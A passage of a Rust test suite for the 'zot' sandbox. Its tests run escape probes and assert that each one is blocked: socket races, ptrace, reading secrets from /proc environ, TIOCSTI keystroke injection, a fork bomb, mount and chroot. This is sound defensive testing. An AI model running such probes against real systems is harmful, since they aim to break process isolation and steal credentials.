        text(&o)
    );
    assert_eq!(socks.reached(), 0, "a host socket was reached:\n{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("refused 9 connect/send call(s)"),
        "the report counts the refusals:\n{}",
        text(&o)
    );
    drop(socks);
    // Unconfined, the same program reaches the sockets.
    for d in &dirs {
        let _ = std::fs::remove_dir_all(d);
    }
    let _ = std::fs::remove_file(ctx.ws.join("started"));
    let _ = std::fs::remove_file(ctx.ws.join("ready"));
    let cmd = ctx.py_command("danger-full-access", &[], &prog);
    let (o, socks) = with_host_after_start(ctx, cmd, || LateSockets::bind(ctx, &dirs, "h"));
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(out.matches("ESCAPED").count(), 9, "{}", text(&o));
    assert_eq!(socks.reached(), 9);
}

/// A socket bound in another network namespace before the launch (a
/// container writing into a shared directory): not in the host's
/// /proc/net/unix, so not masked; the supervisor refuses it.
pub fn unix_socket_other_netns(ctx: &Ctx) {
    if !notify_available() {
        return;
    }
    let unshare = Path::new("/usr/bin/unshare");
    if !common::require("unshare", unshare.exists(), "util-linux unshare missing") {
        return;
    }
    let sock = ctx.ws.join("container.sock");
    let ready = ctx.ws.join("container.ready");
    let seen = ctx.outside.join("container.seen");
    let server = format!(
        "import socket, os\nl = socket.socket(socket.AF_UNIX); l.bind({s:?}); l.listen(5); os.chmod({s:?}, 0o777)\nl.settimeout(20)\nopen({r:?}, 'w').close()\ntry:\n l.accept(); open({seen:?}, 'w').close()\nexcept OSError:\n pass\n",
        s = sock.display().to_string(),
        r = ready.display().to_string(),
        seen = seen.display().to_string()
    );
    let mut child = Command::new(unshare)
        .args(["-Urn", PYTHON, "-c", &server])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    let t0 = Instant::now();
    while !ready.exists() {
        if let Ok(Some(st)) = child.try_wait() {
            common::require(
                "a user and network namespace for the host side",
                false,
                &format!("unshare -Urn exited with {st}"),
            );
            return;
        }
        assert!(t0.elapsed() < Duration::from_secs(20));
        std::thread::sleep(Duration::from_millis(5));
    }
    if ctx.unpriv && is_root() {
        let _ = std::os::unix::fs::lchown(&sock, Some(NOBODY), Some(NOBODY));
    }
    let listed = std::fs::read_to_string("/proc/net/unix").unwrap();
    assert!(!listed.contains(&sock.display().to_string()));
    let prog = "import socket\ntry:\n socket.socket(socket.AF_UNIX).connect('container.sock'); print('ESCAPED')\nexcept OSError as e:\n print('BLOCKED', e)\n";
    let o = ctx.py("workspace-write", &[], prog);
    let _ = child.kill();
    let _ = child.wait();
    expect_blocked(ctx, "connect to a socket of another network namespace", &o);
    assert!(!seen.exists(), "the other namespace's socket saw a connection");
}

/// With the host network (`--net`) the network namespace, and so the
/// abstract socket names, are the host's: a host abstract socket is still
/// refused (the supervisor's check; the call it makes is not Landlock's),
/// the command's own abstract socket works.
pub fn unix_socket_host_abstract_net(ctx: &Ctx) {
    use std::os::linux::net::SocketAddrExt;
    if !notify_available() {
        return;
    }
    let name = format!(
        "zot-attack-net-{}-{}-{}",
        std::process::id(),
        ctx.backend.replace('/', "-"),
        ctx.unpriv
    );
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    l.set_nonblocking(true).unwrap();
    let prog = format!(
        "import socket\ntry:\n socket.socket(socket.AF_UNIX).connect('\\0{name}'); print('ESCAPED')\nexcept OSError as e:\n print('BLOCKED', e)\no = socket.socket(socket.AF_UNIX); o.bind('\\0{name}-own'); o.listen(1)\nsocket.socket(socket.AF_UNIX).connect('\\0{name}-own'); print('OWN-OK')\n"
    );
    let o = ctx.py("workspace-write", &["--net"], &prog);
    expect_blocked(ctx, "connect to a host abstract socket with --net", &o);
    assert!(String::from_utf8_lossy(&o.stdout).contains("OWN-OK"), "{}", text(&o));
    assert!(l.accept().is_err(), "host abstract listener got a connection");
}

/// The command binds its own socket, then swaps the path for a host socket
/// by rename while another thread connects in a loop; and rewrites the
/// address in memory (own path, host path, same length) while connect and
/// sendto read it. The host sockets are never reached; the own ones are.
pub fn unix_socket_rename_and_memory_races(ctx: &Ctx) {
    if !notify_available() {
        return;
    }
    let prog = format!(
        r#"{PY_SYNC}
import ctypes
own = socket.socket(socket.AF_UNIX); own.bind('race/o.sock'); own.listen(128)
def acceptor():
    while True:
        try: own.accept()[0].close()
        except OSError: return
threading.Thread(target=acceptor, daemon=True).start()
stop = [False]
# A second name of the host socket, renamed to and fro (its bound name stays
# put: other sandboxes starting meanwhile mask what /proc/net/unix lists).
os.link('race/h0.sock', 'race/x.sock')
def swapper():
    while not stop[0]:
        for a, b in [('race/o.sock', 'race/t.sock'), ('race/t.sock', 'race/o.sock'),
                     ('race/x.sock', 'race/t.sock'), ('race/t.sock', 'race/x.sock')]:
            try: os.rename(a, b)
            except OSError: pass
threading.Thread(target=swapper, daemon=True).start()
# At least 1 s, and until the own socket was reached once (a loaded host).
def going(t0, n): return time.time() - t0 < 1.0 or (n == 0 and time.time() - t0 < 15)
ok = 0; t0 = time.time()
while going(t0, ok):
    c = socket.socket(socket.AF_UNIX)
    try: c.connect('race/t.sock'); ok += 1
    except OSError: pass
    c.close()
stop[0] = True
libc = ctypes.CDLL(None, use_errno=True)
class SUN(ctypes.Structure):
    _fields_ = [('family', ctypes.c_ushort), ('path', ctypes.c_char * 108)]
def flip(buf, a, b, stop):
    off = SUN.path.offset; a = ctypes.create_string_buffer(a); b = ctypes.create_string_buffer(b)
    while not stop[0]:
        ctypes.memmove(ctypes.addressof(buf) + off, a, len(a))
        ctypes.memmove(ctypes.addressof(buf) + off, b, len(b))
own1 = socket.socket(socket.AF_UNIX); own1.bind('race/o1.sock'); own1.listen(128)
def acceptor1():
    while True:
        try: own1.accept()[0].close()
        except OSError: return
threading.Thread(target=acceptor1, daemon=True).start()
buf = SUN(socket.AF_UNIX, b'race/o1.sock'); s2 = [False]
threading.Thread(target=flip, args=(buf, b'race/o1.sock', b'rac2/h1.sock', s2), daemon=True).start()
fok = 0; t0 = time.time()
while going(t0, fok):
    s = socket.socket(socket.AF_UNIX)
    if libc.connect(s.fileno(), ctypes.byref(buf), ctypes.sizeof(buf)) == 0: fok += 1
    s.close()
s2[0] = True
g = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); g.bind('race/o1.dgram'); g.setblocking(False)
dbuf = SUN(socket.AF_UNIX, b'race/o1.dgram'); s3 = [False]
threading.Thread(target=flip, args=(dbuf, b'race/o1.dgram', b'rac2/h1.dgram', s3), daemon=True).start()
d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); dok = 0; t0 = time.time()
while going(t0, dok):
    if libc.sendto(d.fileno(), b'x', 1, 0, ctypes.byref(dbuf), ctypes.sizeof(dbuf)) == 1: dok += 1
    try:
        while True: g.recv(8)
    except BlockingIOError: pass
s3[0] = True
print('RACES', ok, fok, dok)
"#
    );
    // race/: the command's directory (it renames in there); rac2/: host
    // sockets at paths as long as the command's own.
    let dirs = [ctx.ws.join("race"), ctx.ws.join("rac2")];
    for d in &dirs {
        let _ = std::fs::remove_dir_all(d);
        std::fs::create_dir_all(d).unwrap();
        make_open(d);
        if ctx.unpriv && is_root() {
            chown_r(d, NOBODY);
        }
    }
    let cmd = ctx.py_command("workspace-write", &[], &prog);
    let (o, socks) = with_host_after_start(ctx, cmd, || LateSockets::bind(ctx, &dirs, "h"));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(socks.reached(), 0, "a host socket was reached:\n{}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    let counts: Vec<u64> = out
        .lines()
        .find_map(|l| l.strip_prefix("RACES "))
        .expect("race counts")
        .split_whitespace()
        .map(|n| n.parse().unwrap())
        .collect();
    // Each race reached the command's own socket too (it ran, both ways).
    assert!(
        counts.iter().all(|n| *n > 0),
        "a race never reached the own socket (rename, memory, datagram: {counts:?}):\n{}",
        text(&o)
    );
}

/// What must keep working: the command's own stream and datagram sockets
/// in the workspace and /tmp (connect, sendto, sendmsg with fds passed), a
/// connect blocked on a full backlog not stalling others, TCP to a
/// loopback listener inside the sandbox (with the network on), git and
/// python.
pub fn control_own_sockets_and_tools(ctx: &Ctx) {
    if !notify_available() {
        return;
    }
    let prog = r#"
import socket, os, threading, time, array
keep = []
for base in ['own', '/tmp/own']:
    s = socket.socket(socket.AF_UNIX); s.bind(base + '.sock'); s.listen(1); keep.append(s)
    c = socket.socket(socket.AF_UNIX); c.connect(base + '.sock')
    a, _ = s.accept(); c.sendall(b'ping'); assert a.recv(4) == b'ping'
    g = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); g.bind(base + '.dgram')
    d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    d.sendto(b'pong', base + '.dgram'); assert g.recv(4) == b'pong'
    r, w = os.pipe()
    d.sendmsg([b'f', b'd'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [w]))], 0, base + '.dgram')
    m, anc, _, _ = g.recvmsg(4, socket.CMSG_SPACE(4)); assert m == b'fd'
    os.write(array.array('i', anc[0][2])[0], b'passed'); assert os.read(r, 6) == b'passed'
    c.sendmsg([b'stream']); assert a.recv(6) == b'stream'
full = socket.socket(socket.AF_UNIX); full.bind('/tmp/full.sock'); full.listen(0)
filled = []
while True:
    c = socket.socket(socket.AF_UNIX); c.setblocking(False)
    try: c.connect('/tmp/full.sock'); filled.append(c)
    except BlockingIOError: break
done = []
th = threading.Thread(target=lambda: (socket.socket(socket.AF_UNIX).connect('/tmp/full.sock'), done.append(1)), daemon=True)
th.start(); time.sleep(0.2); assert not done
# Meanwhile another blocking connect goes through (on another worker).
x = socket.socket(socket.AF_UNIX); x.connect('own.sock')
while not done:
    full.accept(); time.sleep(0.02)
th.join()
print('OWN-OK')
"#;
    let o = ctx.py("workspace-write", &[], prog);
    expect_ok(ctx, "own sockets", &o);
    assert!(String::from_utf8_lossy(&o.stdout).contains("OWN-OK"), "{}", text(&o));
    let tcp = r#"
import socket
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1)
c = socket.create_connection(l.getsockname(), timeout=5)
a, _ = l.accept(); c.sendall(b'hi'); assert a.recv(2) == b'hi'
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('127.0.0.1', 0))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'yo', u.getsockname()); assert u.recv(2) == b'yo'
print('TCP-OK')
"#;
    let o = ctx.py("workspace-write", &["--net"], tcp);
    expect_ok(ctx, "tcp to a loopback listener inside the sandbox", &o);
    assert!(String::from_utf8_lossy(&o.stdout).contains("TCP-OK"), "{}", text(&o));
    let o = ctx.sh(
        "workspace-write",
        &[],
        "git init -q repo && cd repo && echo x > f && git add f && \
         git -c user.email=z@example.com -c user.name=z commit -qm one && git log --oneline | wc -l && \
         python3 -c 'import json, socket; print(json.dumps([1]))'",
    );
    expect_ok(ctx, "git and python3", &o);
    assert_eq!(String::from_utf8_lossy(&o.stdout), "1\n[1]\n", "{}", text(&o));
}

// ------------------------------------------------------------------ limits

/// 600 MiB written to /tmp fail at the default 512 MiB size; a small file works.
pub fn tmpfs_size_limit(ctx: &Ctx) {
    let o = ctx.sh(
        "workspace-write",
        &[],
        "echo small > /tmp/small && cat /tmp/small >/dev/null || exit 9; \
         if head -c 629145600 /dev/zero > /tmp/big 2>/dev/null; then echo ESCAPED; else echo BLOCKED; fi; \
         ls -l /tmp/big | awk '{print \"size\", $5}'; rm -f /tmp/big; \
         if head -c 629145600 /dev/zero > /dev/shm/big 2>/dev/null; then echo ESCAPED shm; else echo BLOCKED shm; fi",
    );
    expect_blocked(ctx, "write 600 MiB to /tmp", &o);
    let out = String::from_utf8_lossy(&o.stdout);
    let size: u64 = out
        .lines()
        .find_map(|l| l.strip_prefix("size "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(u64::MAX);
    assert!(size <= 512 << 20, "{}", text(&o));
    // --tmp-size raises it (and the report says so).
    let o = ctx.sh(
        "workspace-write",
        &["--tmp-size", "8M", "--report"],
        "if head -c 9437184 /dev/zero > /tmp/big 2>/dev/null; then echo ESCAPED; else echo BLOCKED; fi",
    );
    expect_blocked(ctx, "write 9 MiB with --tmp-size 8M", &o);
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("tmpfs 8 MiB each"),
        "{}",
        text(&o)
    );
}

/// A fork loop stops at the process limit (root included), 50 processes work.
pub fn fork_loop_stops(ctx: &Ctx) {
    let prog = r#"
import os, time, sys
kids = []
try:
    while len(kids) < 4000:
        p = os.fork()
        if p == 0:
            time.sleep(5); os._exit(0)
        kids.append(p)
    print('ESCAPED', len(kids))
except OSError as e:
    print('BLOCKED at', len(kids), e)
for k in kids:
    os.kill(k, 9)
"#;
    let o = ctx.py("workspace-write", &["--max-procs", "200"], prog);
    expect_blocked(ctx, "fork loop", &o);
    let out = String::from_utf8_lossy(&o.stdout);
    let n: usize = out
        .split("BLOCKED at ")
        .nth(1)
        .and_then(|r| r.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap();
    // RLIMIT_NPROC is exact; pid_max (what binds uid 0) leaves up to 299 more.
    assert!((150..200 + 300).contains(&n), "{}", text(&o));
    let o = ctx.sh(
        "workspace-write",
        &[],
        "i=0; while [ $i -lt 50 ]; do sleep 2 & i=$((i+1)); done; wait && echo FIFTY",
    );
    expect_ok(ctx, "50 processes", &o);
    assert!(String::from_utf8_lossy(&o.stdout).contains("FIFTY"));
}

/// The landlock backend: no host /dev/shm, no host SysV shared memory, no
/// other terminal, and the rlimits it can set.
pub fn landlock_host_ipc(ctx: &Ctx) {
    let shm = PathBuf::from(format!("/dev/shm/zot-attack-{}-{}", std::process::id(), ctx.unpriv));
    std::fs::write(&shm, "HOST-SHM-SECRET").unwrap();
    std::fs::set_permissions(&shm, std::fs::Permissions::from_mode(0o666)).unwrap();
    // SAFETY: plain syscalls on a segment this test owns and removes.
    let id = unsafe { libc::shmget(libc::IPC_PRIVATE, 4096, libc::IPC_CREAT | 0o666) };
    assert!(id >= 0);
    let prog = format!(
        r#"
import ctypes, os
try:
    print('ESCAPED read', open({shm:?}).read())
except OSError as e:
    print('BLOCKED read', e)
try:
    open('/dev/shm/zot-new-' + str(os.getpid()), 'w'); print('LOCAL-ALLOWED create')
except OSError as e:
    print('LOCAL-DENIED create', e)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
r = libc.shmat({id}, None, 0o10000)
print('ESCAPED shmat' if r not in (None, ctypes.c_void_p(-1).value) else 'BLOCKED shmat', ctypes.get_errno())
print('LOCAL-DENIED shmget' if libc.shmget(0, 4096, 0o1666) == -1 else 'LOCAL-ALLOWED shmget')
"#,
        shm = shm.display().to_string()
    );
    let o = ctx.py("read-only", &[], &prog);
    let _ = std::fs::remove_file(&shm);
    // SAFETY: our segment.
    unsafe { libc::shmctl(id, libc::IPC_RMID, std::ptr::null_mut()) };
    expect_blocked(ctx, "host /dev/shm and SysV shared memory", &o);
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(out.matches("BLOCKED").count(), 2, "{}", text(&o));
    // Without namespaces /dev/shm and SysV IPC are the host's: refused
    // outright; with them they are private to the sandbox and work.
    let want = if ctx.backend == "landlock" { "LOCAL-DENIED" } else { "LOCAL-ALLOWED" };
    assert_eq!(out.matches(want).count(), 2, "{}", text(&o));
}

// ------------------------------------------------------------------ processes

struct HostProc(std::process::Child);
impl Drop for HostProc {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn host_sleeper(ctx: &Ctx) -> HostProc {
    let mut cmd = common::as_user("/bin/sleep", ctx.unpriv && is_root());
    cmd.arg("60")
        .env("ZOT_HOST_SECRET", "HOST-ENV-SECRET")
        .stdin(Stdio::null());
    HostProc(cmd.spawn().unwrap())
}

pub fn host_process_ptrace_kill_environ(ctx: &Ctx) {
    let victim = host_sleeper(ctx);
    let pid = victim.0.id();
    let prog = format!(
        r#"
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
pid = {pid}
esc = []
if libc.ptrace(16, pid, 0, 0) == 0: esc.append('ptrace')
try:
    os.kill(pid, 0); esc.append('kill')
except OSError: pass
try:
    if b'HOST-ENV-SECRET' in open('/proc/%d/environ' % pid, 'rb').read(): esc.append('environ')
except OSError: pass
print('ESCAPED ' + ','.join(esc) if esc else 'BLOCKED')
"#
    );
    let o = ctx.py("workspace-write", &[], &prog);
    expect_blocked(ctx, "ptrace/kill/environ of a host process", &o);
    drop(victim);
}

pub fn host_pids_invisible(ctx: &Ctx) {
    let victim = host_sleeper(ctx);
    let pid = victim.0.id();
    let o = ctx.sh(
        "workspace-write",
        &[],
        &format!("n=$(ls /proc | grep -c '^[0-9]*$'); [ -e /proc/{pid} ] && echo ESCAPED; [ \"$n\" -gt 20 ] && echo ESCAPED $n; echo BLOCKED"),
    );
    expect_blocked(ctx, "see host PIDs", &o);
}

pub fn parent_secret_env(ctx: &Ctx) {
    let mut cmd = ctx.zot();
    cmd.env("ZOT_TEST_API_TOKEN", "PARENT-SECRET")
        .env("AWS_SECRET_ACCESS_KEY", "PARENT-SECRET")
        .env("VISIBLE_VAR", "seen");
    cmd.args(ctx.sandbox_args("workspace-write")).args([
        "--env-allow",
        "VISIBLE_VAR",
        "--",
        "/bin/sh",
        "-c",
        "env; cat /proc/1/environ /proc/$PPID/environ 2>/dev/null; echo BLOCKED",
    ]);
    let o = run_limited(cmd, Duration::from_secs(30));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        !out.contains("PARENT-SECRET"),
        "[{} {}] secret env leaked:\n{}",
        ctx.backend,
        ctx.who(),
        text(&o)
    );
    assert!(
        out.contains("VISIBLE_VAR=seen"),
        "allowed variable missing:\n{}",
        text(&o)
    );
    expect_blocked(ctx, "read the parent's secret env", &o);
}

// ------------------------------------------------------------------ kernel surface

pub fn mount_refused(ctx: &Ctx) {
    let o = ctx.sh(
        "workspace-write",
        &[],
        "mkdir m; mount -t tmpfs none m 2>/dev/null && echo ESCAPED; mount --bind / m 2>/dev/null && echo ESCAPED; echo BLOCKED",
    );
    expect_blocked(ctx, "mount", &o);
}

pub fn nested_userns_refused(ctx: &Ctx) {
    let o = ctx.sh(
        "workspace-write",
        &[],
        "unshare -U true 2>/dev/null && echo ESCAPED; unshare -Ur true 2>/dev/null && echo ESCAPED; unshare -rm true 2>/dev/null && echo ESCAPED; echo BLOCKED",
    );
    expect_blocked(ctx, "nested user namespace", &o);
}

pub fn chroot_refused(ctx: &Ctx) {
    let o = ctx.sh(
        "workspace-write",
        &[],
        "chroot / /bin/true 2>/dev/null && echo ESCAPED; echo BLOCKED",
    );
    expect_blocked(ctx, "chroot", &o);
}

pub fn io_uring_refused(ctx: &Ctx) {
    let prog = r#"
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 4, params)
print('ESCAPED' if fd >= 0 else 'BLOCKED %d' % ctypes.get_errno())
"#;
    let o = ctx.py("workspace-write", &[], prog);
    expect_blocked(ctx, "io_uring", &o);
}

pub fn no_new_privs_and_seccomp_on(ctx: &Ctx) {
    let prog = r#"
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
st = open('/proc/self/status').read()
nnp = [l for l in st.splitlines() if l.startswith('NoNewPrivs:')][0].split()[1]
sec = [l for l in st.splitlines() if l.startswith('Seccomp:')][0].split()[1]
caps = [l for l in st.splitlines() if l.startswith('CapEff:')][0].split()[1]
bnd = [l for l in st.splitlines() if l.startswith('CapBnd:')][0].split()[1]
# try to turn no_new_privs off (PR_SET_NO_NEW_PRIVS=38, 0)
off = libc.prctl(38, 0, 0, 0, 0)
esc = []
if nnp != '1': esc.append('nnp=' + nnp)
if sec != '2': esc.append('seccomp=' + sec)
if int(caps, 16) != 0: esc.append('caps=' + caps)
for set_ in ('CapPrm:', 'CapInh:', 'CapAmb:'):
    v = [l for l in st.splitlines() if l.startswith(set_)][0].split()[1]
    if int(v, 16) != 0: esc.append(set_ + v)
if int(bnd, 16) != 0 and __import__('os').getuid() == 0: esc.append('bounding=' + bnd)
if off == 0 and open('/proc/self/status').read().count('NoNewPrivs:\t0'): esc.append('nnp-off')
print('ESCAPED ' + ','.join(esc) if esc else 'BLOCKED')
"#;
    let o = ctx.py("workspace-write", &[], prog);
    expect_blocked(ctx, "no_new_privs off / capabilities", &o);
}

pub fn tiocsti_injection(ctx: &Ctx) {
    // A pty made the controlling terminal of a child: TIOCSTI is allowed by
    // the kernel there (without CAP_SYS_ADMIN) unless seccomp refuses it.
    // Also try the request with high bits set (32-bit compare).
    let prog = r#"
import os, fcntl, ctypes
libc = ctypes.CDLL(None, use_errno=True)
esc = []
try:
    open('/dev/tty'); esc.append('has-ctty')
except OSError: pass
try:
    m, s = os.openpty()
except OSError:
    # landlock: a pty's slave is reached by path under /dev/pts, which
    # that backend does not grant (other terminals live there).
    print('BLOCKED (no pty)'); raise SystemExit(0)
name = os.ttyname(s)
pid = os.fork()
if pid == 0:
    os.setsid()
    try:
        fd = os.open(name, os.O_RDWR)
    except OSError:
        os._exit(0)  # the terminal cannot even be opened (landlock)
    c = ctypes.c_char(b'x')
    r1 = libc.ioctl(fd, 0x5412, ctypes.byref(c))
    r2 = libc.syscall(16, fd, 0x5412 | (1 << 32), ctypes.byref(c))
    os._exit(1 if (r1 == 0 or r2 == 0) else 0)
_, st = os.waitpid(pid, 0)
if os.waitstatus_to_exitcode(st) != 0: esc.append('tiocsti')
print('ESCAPED ' + ','.join(esc) if esc else 'BLOCKED')
"#;
    let o = ctx.py("workspace-write", &[], prog);
    expect_blocked(ctx, "TIOCSTI injection", &o);
}

fn host_has_process_with_arg(marker: &str) -> bool {
    std::fs::read_dir("/proc").unwrap().flatten().any(|e| {
        std::fs::read(e.path().join("cmdline"))
            .is_ok_and(|c| c.split(|b| *b == 0).any(|a| a == marker.as_bytes()))
    })
}

pub fn orphan_grandchild_dies(ctx: &Ctx) {
    let marker = format!("1000.{}{}", std::process::id(), ctx.unpriv as u8);
    let o = ctx.sh("workspace-write", &[], &format!("(setsid sleep {marker} >/dev/null 2>&1 &); (sleep {marker} >/dev/null 2>&1 &); echo BLOCKED"));
    expect_blocked(ctx, "orphaned grandchild", &o);
    let start = Instant::now();
    while host_has_process_with_arg(&marker) {
        assert!(
            start.elapsed() < Duration::from_secs(3),
            "[{} {}] grandchild survived the sandbox",
            ctx.backend,
            ctx.who()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

// ------------------------------------------------------------------ supervisor behaviour

pub fn timeout_kills_tree(ctx: &Ctx) {
    let marker = format!("1001.{}{}", std::process::id(), ctx.unpriv as u8);
    let start = Instant::now();
    let o = ctx.sh(
        "workspace-write",
        &["--timeout", "1"],
        &format!("sleep {marker} & setsid sleep {marker} & sleep {marker}"),
    );
    let took = start.elapsed();
    assert_eq!(
        o.status.code(),
        Some(124),
        "[{} {}] timeout exit code:\n{}",
        ctx.backend,
        ctx.who(),
        text(&o)
    );
    assert!(took < Duration::from_secs(8), "timeout took {took:?}");
    let start = Instant::now();
    while host_has_process_with_arg(&marker) {
        assert!(
            start.elapsed() < Duration::from_secs(3),
            "[{} {}] process tree survived the timeout",
            ctx.backend,
            ctx.who()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

pub fn output_flood_capped(ctx: &Ctx) {
    let start = Instant::now();
    let o = ctx.sh(
        "workspace-write",
        &["--max-output", "1000"],
        "head -c 20000000 /dev/zero; head -c 5000000 /dev/zero >&2; echo done >&2",
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(o.stdout.len(), 1000, "stdout not capped");
    assert!(
        o.stderr.len() < 1000 + 200,
        "stderr not capped: {}",
        o.stderr.len()
    );
    assert!(start.elapsed() < Duration::from_secs(20));
}

pub fn signal_forwarding(ctx: &Ctx) {
    let mut cmd = ctx.zot();
    cmd.args(ctx.sandbox_args("workspace-write")).args([
        "--",
        "/bin/sh",
        "-c",
        "trap 'echo got-term; exit 7' TERM; echo ready; while :; do sleep 0.05; done",
    ]);
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "ready");
    std::thread::sleep(Duration::from_millis(100));
    // SAFETY: plain kill(2) on our child.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let mut rest = String::new();
    let deadline = Instant::now() + Duration::from_secs(10);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("zot did not exit after SIGTERM");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    out.read_to_string(&mut rest).unwrap();
    assert!(
        rest.contains("got-term"),
        "[{} {}] TERM not forwarded: {rest}",
        ctx.backend,
        ctx.who()
    );
    assert_eq!(status.code(), Some(7));
}

/// A SIGTERM to zot while the sandbox is still starting is not lost: it
/// reaches the command once it runs (or stops the start). Sent at growing
/// delays after the start, so that some land while PID 1 builds the view
/// and before it runs the command; a lost one would let the command finish.
pub fn a_signal_during_start_up_is_not_lost(ctx: &Ctx) {
    for delay_us in (0..12).map(|k| k * 700) {
        let mut cmd = ctx.zot();
        cmd.args(ctx.sandbox_args("workspace-write"))
            .args(["--", "/bin/sh", "-c", "sleep 4; echo finished"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let child = cmd.spawn().unwrap();
        std::thread::sleep(Duration::from_micros(delay_us));
        // SAFETY: plain kill(2) on our child.
        unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
        let start = Instant::now();
        let o = child.wait_with_output().unwrap();
        assert!(
            !String::from_utf8_lossy(&o.stdout).contains("finished"),
            "[{} {}] a SIGTERM {delay_us} us after the start was lost: the command ran to its \
             end ({:?} later)\n{}",
            ctx.backend,
            ctx.who(),
            start.elapsed(),
            text(&o)
        );
        assert!(
            !o.status.success(),
            "[{} {}] {}",
            ctx.backend,
            ctx.who(),
            text(&o)
        );
    }
}

/// SIGTERM to zot (forwarded) and the timeout's SIGTERM reach the
/// command's whole process group, not only the command: a background child
/// of the shell traps TERM and records it.
pub fn signals_reach_the_process_group(ctx: &Ctx) {
    let script = "trap 'echo child-term >> term.log; exit 0' TERM; echo child-ready >> term.log; \
                  while :; do sleep 0.05; done";
    let parent = format!(
        "/bin/sh -c \"{script}\" & trap 'wait; echo parent-term >> term.log; exit 7' TERM; \
         while ! grep -q child-ready term.log 2>/dev/null; do sleep 0.02; done; echo ready; \
         while :; do sleep 0.05; done"
    );
    let log = ctx.ws.join("term.log");
    let wait_logged = |what: &str| {
        let deadline = Instant::now() + Duration::from_secs(5);
        loop {
            let text = std::fs::read_to_string(&log).unwrap_or_default();
            if text.contains(what) {
                return text;
            }
            assert!(
                Instant::now() < deadline,
                "[{} {}] {what} not seen: {text:?}",
                ctx.backend,
                ctx.who()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    // 1. A signal to zot.
    let _ = std::fs::remove_file(&log);
    let mut cmd = ctx.zot();
    cmd.args(ctx.sandbox_args("workspace-write"))
        .args(["--", "/bin/sh", "-c", &parent])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "ready", "[{} {}]", ctx.backend, ctx.who());
    // SAFETY: plain kill(2) on our child.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let deadline = Instant::now() + Duration::from_secs(10);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("zot did not exit after SIGTERM");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let log_text = wait_logged("parent-term");
    assert!(
        log_text.contains("child-term"),
        "[{} {}] SIGTERM did not reach the command's group: {log_text:?}",
        ctx.backend,
        ctx.who()
    );
    assert_eq!(status.code(), Some(7), "[{} {}]", ctx.backend, ctx.who());
    // 2. The timeout.
    let _ = std::fs::remove_file(&log);
    let o = ctx.sh("workspace-write", &["--timeout", "1"], &parent);
    assert_eq!(o.status.code(), Some(124), "{}", text(&o));
    let log_text = wait_logged("parent-term");
    assert!(
        log_text.contains("child-term"),
        "[{} {}] the timeout's SIGTERM did not reach the command's group: {log_text:?}",
        ctx.backend,
        ctx.who()
    );
}

pub fn exit_code_mapping(ctx: &Ctx) {
    let code = |o: &Output| o.status.code();
    assert_eq!(code(&ctx.sh("workspace-write", &[], "exit 3")), Some(3));
    assert_eq!(
        code(&ctx.sh("workspace-write", &[], "kill -9 $$")),
        Some(137)
    );
    assert_eq!(
        code(&ctx.sh("workspace-write", &[], "kill -TERM $$")),
        Some(143)
    );
    let mut cmd = ctx.zot();
    cmd.args(ctx.sandbox_args("workspace-write"))
        .args(["--", "no-such-command-zot"]);
    let o = run_limited(cmd, Duration::from_secs(30));
    assert_eq!(code(&o), Some(127), "{}", text(&o));
    std::fs::write(ctx.ws.join("noexec"), "#!/bin/sh\n").unwrap();
    std::fs::set_permissions(
        ctx.ws.join("noexec"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let mut cmd = ctx.zot();
    cmd.args(ctx.sandbox_args("workspace-write"))
        .args(["--", "./noexec"]);
    let o = run_limited(cmd, Duration::from_secs(30));
    assert_eq!(code(&o), Some(126), "{}", text(&o));
    let mut cmd = ctx.zot();
    cmd.args(ctx.sandbox_args("workspace-write")).args([
        "--writable-root",
